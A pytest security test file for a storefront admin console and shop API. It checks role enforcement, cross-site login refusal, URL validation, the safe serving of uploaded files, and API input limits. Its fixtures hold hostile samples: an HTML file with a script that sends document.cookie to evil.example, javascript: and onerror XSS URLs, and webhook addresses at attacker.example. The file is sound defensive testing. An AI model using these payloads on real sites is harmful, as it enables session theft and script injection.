"""Hostile input at the console and what it feeds a storefront: roles enforced on the server for
every POST route, sign-in from another site, accounts that leak across shops, settings that would
break 1C or a storefront, files that would render as pages, download links, resumes that would
retry forever, zips that would storm the worker, and the shop API's remaining 500s. Each case
asserts its own reason, never just a refusal."""

from __future__ import annotations

import base64
import json
import re
import time
from urllib.parse import parse_qs, urlsplit

import pytest

from chalicelib import wiring
from chalicelib.tenants import TenantError
from tests.reliability import cml
from tests.test_console import PASSWORD, Browser

INTERNAL = "внутренняя ошибка"


@pytest.fixture
def people(stack):
    """Tenant demo with an owner and a user, an operator, and a rival shop with its owner."""
    auth = wiring.container().console_auth
    auth.add_user("owner@demo.shop", PASSWORD, "demo", "owner", "test")
    auth.add_user("user@demo.shop", PASSWORD, "demo", "user", "test")
    auth.add_user("ops@provider.net", PASSWORD, None, "operator", "test")
    wiring.container().accounts.add("rival", "Rival shop")
    auth.add_user("owner@rival.shop", PASSWORD, "rival", "owner", "test")
    wiring.container().accounts.set_webhook("demo", ["https://hooks.demo.shop/orders"])
    return stack


def signed(stack, email: str) -> Browser:
    browser = Browser(stack)
    assert browser.login(email).status_code == 303
    if email.startswith("ops@"):  # an operator picks the shop first (the tenants page's form)
        page = browser.get("/console/tenants").body.decode()
        csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
        assert (
            browser.post("/console/tenants", {"csrf": csrf, "tenant": "demo"}, csrf=False).status_code == 303
        )
    return browser


# Every POST route a person can reach, with a form that would change something. `owner` routes
# change what the shop's owner owns; the rest are open to every signed-in person of the shop.
ROUTES = {
    "/console/webhooks": ("owner", {"urls": "https://attacker.example/collect", "rotate": "1"}),
    "/console/settings": (
        "owner",
        {"image_base_url": "https://cdn.attacker.example", "order_encoding": "utf-8"},
    ),
    "/console/users": ("owner", {"email": "friend@attacker.example", "password": "long enough pw"}),
    "/console/certificates": ("owner", {"fingerprints": "ab" * 32, "guard": "shop"}),
    "/console/publishable-key": ("owner", {}),
    "/console/connect": ("owner", {"renew": "password"}),
    "/console/jobs/skip": ("owner", {"job": "no-such-job"}),
    "/console/sample": ("owner", {}),
    "/console/tenants": ("operator", {"tenant": "rival"}),
    "/console/jobs/resume": ("any", {"job": "no-such-job"}),
    "/console/orders/no-such-order/cancel": ("any", {}),
    "/console/webhooks/no-such-event/redeliver": ("any", {}),
    "/console/exchanges/no-such-session/replay": ("any", {}),
}


OWNED_ROUTES = (
    "/console/webhooks", "/console/settings", "/console/users", "/console/certificates", "/console/publishable-key",
)  # fmt: skip


def owned_state() -> tuple:
    tenant = wiring.container().accounts.require("demo")
    users = sorted(u["email"] for u in wiring.container().console_store.users("demo"))
    settings = tenant.settings
    return (
        settings.webhook_urls,
        settings.webhook_secret,
        settings.image_base_url,
        settings.client_certificates,
        settings.publishable_key,
        tenant.password_hash,
        users,
    )


@pytest.mark.parametrize("route", sorted(ROUTES))
@pytest.mark.parametrize("email", ["user@demo.shop", "owner@demo.shop", "ops@provider.net"])
def test_every_post_route_as_each_role(people, losses, route, email):
    who, fields = ROUTES[route]
    browser = signed(people, email)
    before = owned_state()
    response = browser.post(route, fields)
    body = response.body.decode()
    assert INTERNAL not in body and response.status_code != 500
    if who == "owner" and email.startswith("user@"):
        assert response.status_code == 403 and "может только владелец магазина" in body, body
        assert owned_state() == before, "a user changed nothing the owner owns"
    elif who == "operator":
        operator = email.startswith("ops@")
        assert response.status_code == (303 if operator else 403), body
        assert operator or "магазин выбирает только оператор" in body
    elif route == "/console/connect":  # a new 1C password, shown once on the page that answers
        assert response.status_code == 200 and 'id="new-password"' in body, body
        assert owned_state() != before
    elif route in OWNED_ROUTES:
        assert response.status_code == 303, body
        assert owned_state() != before
    elif route == "/console/sample":  # the sample catalog loads for the owner (and an operator)
        assert response.status_code == 303 and "/console/exchanges/" in response.headers["Location"], body
    else:  # the thing named does not exist: a plain 404 with its reason, for every role
        assert response.status_code == 404 and "нет" in body, body


def test_a_users_settings_pages_are_read_only_and_the_owner_sees_every_change(people):
    user = signed(people, "user@demo.shop")
    for path in ("/console/settings", "/console/webhooks"):
        page = user.get(path).body.decode()
        assert 'id="read-only"' in page and "disabled" in page and "Сохранить" not in page, path
    assert "hooks.demo.shop" in user.get("/console/webhooks").body.decode(), "a user still sees the receivers"
    owner = signed(people, "owner@demo.shop")
    assert owner.post("/console/webhooks", {"urls": "https://hooks2.demo.shop/x"}).status_code == 303
    journal = owner.get("/console/exchanges").body.decode()
    assert "owner@demo.shop: webhook.settings — адреса: https://hooks2.demo.shop/x" in journal


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.example", "Host": "console.demo.shop"},
        {"Origin": "null"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site", "Origin": "https://sub.demo.shop", "Host": "console.demo.shop"},
    ],
    ids=["other origin", "opaque origin", "cross-site fetch", "sibling subdomain"],
)
def test_login_from_another_site_is_refused_before_any_session(people, headers):
    response = Browser(people).request(
        "POST",
        "/console/login",
        b"email=owner%40rival.shop&password=correct+horse+battery",
        {"Content-Type": "application/x-www-form-urlencoded", **headers},
    )
    assert response.status_code == 403 and "с другого сайта" in response.body.decode()
    assert "Set-Cookie" not in response.headers and "set-cookie" not in response.headers


def test_login_from_our_own_page_still_works(people):
    response = Browser(people).request(
        "POST",
        "/console/login",
        b"email=owner%40demo.shop&password=correct+horse+battery",
        {
            "Content-Type": "application/x-www-form-urlencoded",
            "Origin": "https://console.demo.shop",
            "Host": "console.demo.shop",
            "Sec-Fetch-Site": "same-origin",
        },
    )
    assert response.status_code == 303 and "cmlbridge_console=" in response.headers["Set-Cookie"]


def test_adding_an_address_says_the_same_whichever_shop_holds_it(people):
    owner = signed(people, "owner@demo.shop")
    answers = []
    for email in ("owner@rival.shop", "user@demo.shop"):
        response = owner.post("/console/users", {"email": email, "password": "long enough pw"})
        assert response.status_code == 400
        error = re.search(r'<p class="error"[^>]*>([^<]+)</p>', response.body.decode()).group(1)
        answers.append(error.replace(email, "EMAIL"))
    assert answers[0] == answers[1] and "уже есть" not in answers[0] and "нельзя добавить" in answers[0]


BAD_BASES = [
    "javascript:alert(document.cookie)",
    "http://cdn.example.com",
    "https://user:pw@cdn.example.com",
    "https://cdn.example.com/?x=",
    'https://cdn.example.com/"onerror="alert(1)',
    "https://cdn.example.com/#frag",
    "data:text/html,<script>alert(1)</script>",
    "//cdn.example.com",
]


@pytest.mark.parametrize("url", BAD_BASES)
def test_image_base_url_is_https_host_and_path_only(people, url):
    with pytest.raises(TenantError, match="адрес картинок"):
        wiring.container().accounts.update_settings("demo", image_base_url=url)
    owner = signed(people, "owner@demo.shop")
    response = owner.post("/console/settings", {"image_base_url": url})
    assert response.status_code == 400 and "адрес картинок" in response.body.decode()
    assert wiring.container().accounts.require("demo").settings.image_base_url is None


def test_a_good_image_base_url_prefixes_served_pictures(people):
    wiring.container().accounts.update_settings("demo", image_base_url="https://cdn.demo.shop/img")
    assert wiring.container().accounts.require("demo").settings.image_base_url == "https://cdn.demo.shop/img"


@pytest.mark.parametrize(
    "changes",
    [
        {"payment_systems": ({"id": "card", "name": "Карта\u0001", "type": "безналичная"},)},
        {"delivery_services": ({"id": "d", "name": "\ud800"},)},
        {"organization": "ООО \x0bРомашка"},
        {"status_map": {"принят\x00": "accepted"}},
        {"warehouse": "С" * 1001},
    ],
    ids=["payment system", "delivery service", "organization", "status map key", "1001 characters"],
)
def test_setting_texts_that_xml_cannot_carry_are_refused_and_mode_info_stays_good(people, changes):
    with pytest.raises(
        TenantError, match=r"настройка .*(управляющие символы|не Юникод|длиннее 1000 символов)"
    ):
        wiring.container().accounts.update_settings("demo", **changes)
    onec = people.onec()
    assert onec.checkauth("sale").keyword == "success"
    info = onec.call("sale", "info")
    assert info.status == 200 and info.text.lstrip("\ufeff").startswith("<?xml"), info.text[:200]


@pytest.mark.parametrize("part", ["²", "١", "0", "99", "-1", "1 ", "x"])
def test_a_download_part_that_is_not_ascii_digits_is_404(people, part):
    owner = signed(people, "owner@demo.shop")
    session = owner.upload("import.xml", cml.catalog(cml.product()))
    area = f"{session}-1"
    response = owner.get(f"/console/exchanges/{session}/file?area={area}&name=import.xml&part={part}")
    assert response.status_code == 404 and "нет такого файла" in response.body.decode()


def test_download_links_live_five_minutes_and_download_as_attachments(people):
    owner = signed(people, "owner@demo.shop")
    session = owner.upload("orders.xml", cml.catalog(cml.product()))
    response = owner.get(f"/console/exchanges/{session}/file?area={session}-1&name=orders.xml&part=1")
    assert response.status_code == 303
    query = parse_qs(urlsplit(response.headers["Location"]).query)
    assert query["X-Amz-Expires"] == ["300"]
    assert query["response-content-disposition"][0].startswith('attachment; filename="orders.xml"')


def test_a_picture_that_is_an_html_file_is_never_linked_nor_served_as_a_page(people):
    import boto3

    from chalicelib.settings import settings

    page = b"<html><script>document.location='https://evil.example/?'+document.cookie</script></html>"
    product = cml.product(
        "p-pic",
        "Товар",
        "<Картинка>import_files/ab/evil.html</Картинка><Картинка>import_files/ab/ok.jpg</Картинка>",
    )
    onec = people.onec()
    replies = onec.send_zip(
        {
            "import.xml": cml.catalog(product),
            "import_files/ab/evil.html": page,
            "import_files/ab/ok.jpg": b"\xff\xd8jpeg",
        },
        ["import.xml"],
    )
    assert replies[-1].keyword == "success", replies[-1].text
    assert onec.send_file("offers.xml", cml.offers(cml.offer("p-pic"))).keyword == "success"
    served = json.loads(
        people.client.http.get("/api/v1/products/p-pic", headers={"X-Api-Key": "demo-key"}).body
    )
    urls = [i["url"] for i in served["images"]]
    assert len(urls) == 1 and ".html" not in urls[0], urls
    s3 = boto3.client("s3")
    bucket = settings().bucket
    keys = [o["Key"] for o in s3.list_objects_v2(Bucket=bucket, Prefix="images/demo/")["Contents"]]
    (key,) = [k for k in keys if k.endswith(".html")]
    head = s3.head_object(Bucket=bucket, Key=key)
    assert head["ContentType"] == "application/octet-stream" and head["ContentDisposition"] == "attachment"
    picture = urlsplit(urls[0]).path.lstrip("/").removeprefix(f"{bucket}/")
    assert s3.head_object(Bucket=bucket, Key=picture)["ContentType"] == "image/jpeg"


def test_a_console_zip_of_a_thousand_files_is_one_job_and_one_message(people):
    owner = signed(people, "owner@demo.shop")
    members = {f"import_{n:04d}.xml": cml.catalog(cml.product(f"z{n}")) for n in range(1000)}
    data = cml.zipped(members)
    csrf = owner.csrf
    headers = {"X-CSRF-Token": csrf, "Content-Type": "application/octet-stream"}
    started = json.loads(
        owner.http.request(
            "POST",
            "/console/upload/start?filename=all.zip",
            headers={**headers, "Cookie": owner.cookie},
            body=b"",
        ).body
    )
    query = f"filename=all.zip&upload={started['upload']}"
    chunk = owner.http.request(
        "POST", f"/console/upload/chunk?{query}", headers={**headers, "Cookie": owner.cookie}, body=data
    )
    assert chunk.status_code == 200, chunk.body
    queue = wiring.container().job_queue
    began = time.monotonic()
    finished = owner.http.request(
        "POST", f"/console/upload/finish?{query}", headers={**headers, "Cookie": owner.cookie}, body=b""
    )
    assert finished.status_code == 200 and time.monotonic() - began < 5, finished.body
    jobs = wiring.container().exchange_store.jobs("demo", limit=50)
    assert [j.filename for j in jobs] == ["all.zip"], "one job; its members are the worker's to walk"
    messages = queue.sqs.receive_message(QueueUrl=queue.url, MaxNumberOfMessages=10)["Messages"]
    assert len(messages) == 1


def test_a_console_zip_imports_its_files_catalog_first(people):
    owner = signed(people, "owner@demo.shop")
    session = owner.upload(
        "pack.zip",
        cml.zipped(
            {
                "offers.xml": cml.offers(cml.offer("zp", "5", "70")),
                "import.xml": cml.catalog(cml.product("zp", "Из архива")),
            }
        ),
    )
    jobs = {j.filename: j for j in wiring.container().exchange_store.jobs("demo", limit=50)}
    assert {name: j.status for name, j in jobs.items()} == {
        "pack.zip": "done",
        "import.xml": "done",
        "offers.xml": "done",
    }
    assert jobs["import.xml"].finished_at <= jobs["offers.xml"].finished_at and session
    product = json.loads(
        people.client.http.get("/api/v1/products/zp", headers={"X-Api-Key": "demo-key"}).body
    )
    assert product["name"] == "Из архива" and product["offers"][0]["prices"][0]["value"] == 70


def test_an_upload_chunk_over_file_limit_stops_the_script_with_the_protocols_reason(people):
    from chalicelib.settings import settings

    owner = signed(people, "owner@demo.shop")
    headers = {"X-CSRF-Token": owner.csrf, "Content-Type": "application/octet-stream", "Cookie": owner.cookie}
    started = json.loads(
        owner.http.request("POST", "/console/upload/start?filename=big.xml", headers=headers, body=b"").body
    )
    assert started["chunk"] == settings().file_limit, "the script sends chunks the protocol accepts"
    too_big = b"<" * (settings().file_limit + 70_000)
    query = f"filename=big.xml&upload={started['upload']}"
    answer = owner.http.request("POST", f"/console/upload/chunk?{query}", headers=headers, body=too_big)
    assert answer.status_code == 422 and "больше file_limit" in json.loads(answer.body)["error"]
    forged = owner.http.request(
        "POST", f"/console/upload/chunk?{query}", headers={**headers, "X-CSRF-Token": "x"}, body=b"<"
    )
    assert forged.status_code == 403 and "CSRF" in json.loads(forged.body)["error"], "JSON, never «Forbidden»"


API = {
    "price_min over price_max": ("/products?sort=price&price_min=100&price_max=10", 400, "price_min"),
    "facets group of 2 KB": ("/facets?group=" + "g" * 2048, 400, "group"),
    "products group of 2 KB": ("/products?group=" + "g" * 2048, 400, "group"),
    "after of 1,024 characters": ("CURSOR:name:" + "a" * 1024, 400, "cursor"),
    "after with no id": ("CURSOR:price:00000000000000001000", 400, "cursor"),
    "after of the wrong shape for the sort": ("CURSOR:price:abc\x01p1", 400, "cursor"),
    "after past the price range": ("CURSOR:price:99999999999999999999\x01p1&price_max=10", 200, None),
}


@pytest.mark.parametrize("name", sorted(API))
def test_shop_api_inputs_that_were_500s(module_stack, name):
    path, expected, word = API[name]
    if path.startswith("CURSOR:"):
        sort, _, rest = path[len("CURSOR:") :].partition(":")
        after, _, extra = rest.partition("&")
        cursor = (
            base64.urlsafe_b64encode(json.dumps({"sort": sort, "after": after}).encode()).decode().rstrip("=")
        )
        path = f"/products?sort={sort}&cursor={cursor}" + (f"&{extra}" if extra else "")
    response = module_stack.client.http.get(f"/api/v1{path}", headers={"X-Api-Key": "demo-key"})
    body = json.loads(response.body)
    assert response.status_code == expected, body
    if word:
        assert word in body["error"]["message"], body
    else:
        assert body["items"] == [] and body["next_cursor"] is None


def test_wrong_api_keys_from_one_address_are_counted_and_throttled(module_stack):
    from chalicelib.apikeys import MAX_BAD_KEYS

    headers = {"X-Api-Key": "guess"}
    statuses = [
        module_stack.client.http.get("/api/v1/products", headers=headers).status_code
        for _ in range(MAX_BAD_KEYS + 3)
    ]
    assert statuses[:MAX_BAD_KEYS] == [401] * MAX_BAD_KEYS and statuses[MAX_BAD_KEYS:] == [429] * 3
    throttled = module_stack.client.http.get("/api/v1/products", headers=headers)
    assert (
        throttled.headers["Retry-After"].isdigit() and "wrong or missing API key" in throttled.body.decode()
    )
